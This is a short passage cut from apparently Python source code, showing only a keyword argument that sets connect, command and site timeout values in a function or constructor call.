        timeouts={"connect_s": 5, "command_s": 5, "site_s": 20},
    )
